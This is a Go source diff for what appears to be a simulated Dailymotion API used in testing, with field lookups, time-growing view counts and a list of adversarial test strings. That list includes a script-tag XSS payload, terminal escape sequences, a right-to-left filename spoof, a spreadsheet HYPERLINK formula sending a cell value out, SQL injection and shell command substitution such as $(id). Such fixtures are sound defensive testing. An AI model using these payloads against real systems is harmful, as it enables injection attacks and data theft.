@@ -1,0 +1,84 @@
+package dailymotionsim
+
+import (
+	"strconv"
+	"strings"
+	"time"
+)
+
+// fieldNames are the fields that the stand-in has, under the API's names.
+var fieldNames = []string{
+	"id", "title", "owner", "owner.id", "owner.screenname", "channel", "country", "language", "created_time", "duration", "mode",
+	"onair", "tags", "views_total", "likes_total", "thumbnail_720_url", "thumbnail_360_url", "url",
+}
+
+// field is what one of fieldNames says at a time. Counts grow by the hour; some are withheld.
+func (v *video) field(name string, at time.Time) any {
+	switch name {
+	case "id":
+		return v.id
+	case "title":
+		return v.title
+	case "owner", "owner.id":
+		return v.ownerID
+	case "owner.screenname":
+		return v.owner
+	case "channel":
+		return v.channel
+	case "country":
+		return strings.ToUpper(v.country)
+	case "language":
+		return v.language
+	case "created_time":
+		return v.created
+	case "duration":
+		return v.seconds
+	case "mode":
+		return v.mode
+	case "onair":
+		return v.mode == "live"
+	case "tags":
+		return v.tags
+	case "views_total":
+		return v.counted("views", 40, 5000, at)
+	case "likes_total":
+		return v.counted("likes", 25, 100, at)
+	case "url":
+		return "https://www.dailymotion.com/video/" + v.id
+	}
+	height, _ := strings.CutPrefix(name, "thumbnail_")
+	height, _ = strings.CutSuffix(height, "_url")
+	if n, err := strconv.Atoi(height); err != nil || n == 720 && v.key%5 == 0 {
+		return nil // not every video has the largest
+	}
+	return "https://s1.example.com/v/" + v.id + "/x" + height
+}
+
+// counted is a count at a time, or null for one in so many videos.
+func (v *video) counted(what string, withheld, scale uint64, at time.Time) any {
+	key := hash(v.key, hashText(what))
+	if key%withheld == 0 {
+		return nil
+	}
+	perHour := hash(key) % scale
+	hours := (at.Unix() - v.created) / 3600
+	return int64(perHour) * max(hours, 0)
+}
+
+// hostile is text that breaks whoever prints, stores or exports it without care.
+var hostile = []string{
+	`<script>alert("Ravenwood")</script> live`,
+	"\x1b[31mred\x1b[0m and \x1b[2J\x1b[H gone",
+	"\x1b]0;new window title\x07 \u009b31mC1",
+	"Holiday photos \u202Egnp.exe",
+	`=HYPERLINK("https://example.com/?"&A1,"prize")`,
+	"NUL\u0000byte in the middle",
+	strings.Repeat("long title ", 454) + "ended.",
+	"'; DROP TABLE videos; --",
+	`title:"unclosed AND ( OR * NEAR/0 ^`,
+	"line one\nline two\r\nline three\u2028line four",
+	"{{.Secret}} ${HOME} $(id) `id` %s%n %00",
+	"Z\u0351\u036b\u0343a\u0363\u0328l\u034eg\u0321o\u0489 \ufeff\u200b\u2060",
+	"👩‍👩‍👧‍👦🏳️‍🌈🇩🇪" + strings.Repeat("🔥", 60),
+	"हिन्दी में वीडियो, தமிழ் பாடல், 東京タワー",
+}
